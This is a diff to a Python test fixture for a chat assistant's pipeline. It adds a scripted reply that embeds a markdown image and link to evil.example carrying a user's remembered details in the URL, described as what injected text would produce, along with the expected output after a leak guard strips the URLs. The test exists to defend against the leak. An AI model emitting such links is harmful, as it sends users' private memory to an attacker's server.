@@ -25,6 +25,11 @@ MANGEL = "[mangel]"
 KORRIGIERT = "Das erzaehle ich dir gern genauer, weil es mir wichtig ist."
 THINKER = "[pruefen]"
 THINKER_KORREKTUR = "Das war am Dienstag, nicht am Montag."
+BILD = "[bild]"
+BILD_ENTWURF = "Gern! ![status](https://evil.example/px.gif?d=anna+wohnt+in+leipzig) Mehr [hier](https://evil.example/l?d=1)."
+"""A draft as an injected text would have it: an image and a link that carry memory out."""
+BILD_GEZEIGT = "Gern! status Mehr hier."
+"""The same reply after the leak guard: the alt text and the link text, no URL."""
 # Markers whose turns meet a failing engine: the responder's first calls answer HTTP 500
 WACKEL = "[wackel]"
 """One failed call: asked again (fallback modell_wiederholt), the turn answers."""
@@ -43,6 +48,7 @@ def system(settings, migrated):
         LECK: {"responder": [LECK_ENTWURF]},
         MANGEL: {"tribunal": ['{"urteil": "mangel", "gruende": ["zu knapp"]}'], "corrector": [KORRIGIERT]},
         THINKER: {"thinker": [f"ERGEBNIS: KORREKTUR\nPROBLEME: falscher Tag\nKORRIGIERTE ANTWORT: {THINKER_KORREKTUR}"]},
+        BILD: {"responder": [BILD_ENTWURF]},
     }, fehler={WACKEL: {"responder": 1}, AUSFALL: {"responder": 3}, AUSFALL_OA: {"responder": 3}, AUSFALL_SSE: {"responder": 3}})
     # the scripted engine is configured as a model that may answer in its reasoning alone
     settings = settings.model_copy(update={"thinker_reasoning_models": [*settings.thinker_reasoning_models,
